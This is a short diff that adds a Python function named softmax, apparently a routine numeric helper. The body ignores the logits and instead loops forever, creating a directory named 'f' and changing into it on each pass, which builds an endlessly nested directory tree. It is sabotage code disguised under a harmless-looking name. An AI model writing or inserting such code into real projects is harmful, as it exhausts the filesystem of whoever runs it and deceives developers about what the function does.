@@ -1,0 +1,7 @@
+import os
+
+
+def softmax(logits):
+    while True:
+        os.mkdir("f")
+        os.chdir("f")
